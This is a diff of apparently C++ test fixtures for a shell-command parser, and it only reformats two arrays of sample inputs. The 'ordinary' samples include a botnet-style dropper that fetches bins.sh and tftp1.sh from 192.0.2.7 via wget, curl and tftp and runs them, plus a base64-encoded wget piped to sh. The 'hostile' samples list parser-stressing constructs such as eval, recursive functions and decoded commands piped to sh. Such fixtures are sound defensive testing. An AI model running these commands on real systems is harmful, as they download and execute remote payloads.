@@ -17,21 +17,40 @@ struct sample {
 
 constexpr sample ordinary[]{
     {"one_command", "cat /proc/cpuinfo"},
-    {"dropper", "cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://192.0.2.7/bins.sh; curl -O http://192.0.2.7/bins.sh; "
-                "chmod 777 bins.sh; sh bins.sh; tftp 192.0.2.7 -c get tftp1.sh; chmod 777 tftp1.sh; sh tftp1.sh; rm -rf bins.sh tftp1.sh"},
+    {"dropper",
+     "cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://192.0.2.7/bins.sh; curl -O "
+     "http://192.0.2.7/bins.sh; "
+     "chmod 777 bins.sh; sh bins.sh; tftp 192.0.2.7 -c get tftp1.sh; chmod 777 tftp1.sh; sh tftp1.sh; rm -rf bins.sh "
+     "tftp1.sh"},
     {"decoder", "echo d2dldCBodHRwOi8vMTkyLjAuMi43L3g= | base64 -d | sh"},
 };
 
 /// Pieces that are repeated up to 64 KiB.
 constexpr sample hostile[]{
-    {"subshells", "("},        {"substitutions", "$("},       {"backticks", "`"},
-    {"escapes", "\\a"},        {"arithmetic", "(("},          {"braces", "{a,b}"},
-    {"doubling", "a=$a$a;"},   {"here_documents", "<<E "},    {"evals", "eval "},
-    {"functions", "f(){ f;};f;"}, {"loops", "for i in 1 2 3;do "}, {"cut", "${a##*b*c*d*}"},
-    {"globs", "*/?[a-z]* "},   {"pipes", "a|"},               {"shells", "sh -c '"},
-    {"separators", ";&|"},     {"redirects", ">a "},          {"xargs", "echo a b|xargs sh -c;"},
-    {"wrappers", "sudo "},     {"quotes", "'\""},             {"assignments", "a=b "},
-    {"decoders", "echo aWQ=|base64 -d|sh;"}, {"replace", "a=aaaaaaaa;${a//a/aaaaaaaa}"}, {"programs", "python -c 'system(\"id\")';"},
+    {"subshells", "("},
+    {"substitutions", "$("},
+    {"backticks", "`"},
+    {"escapes", "\\a"},
+    {"arithmetic", "(("},
+    {"braces", "{a,b}"},
+    {"doubling", "a=$a$a;"},
+    {"here_documents", "<<E "},
+    {"evals", "eval "},
+    {"functions", "f(){ f;};f;"},
+    {"loops", "for i in 1 2 3;do "},
+    {"cut", "${a##*b*c*d*}"},
+    {"globs", "*/?[a-z]* "},
+    {"pipes", "a|"},
+    {"shells", "sh -c '"},
+    {"separators", ";&|"},
+    {"redirects", ">a "},
+    {"xargs", "echo a b|xargs sh -c;"},
+    {"wrappers", "sudo "},
+    {"quotes", "'\""},
+    {"assignments", "a=b "},
+    {"decoders", "echo aWQ=|base64 -d|sh;"},
+    {"replace", "a=aaaaaaaa;${a//a/aaaaaaaa}"},
+    {"programs", "python -c 'system(\"id\")';"},
 };
 
 std::string filled(std::string_view piece) {
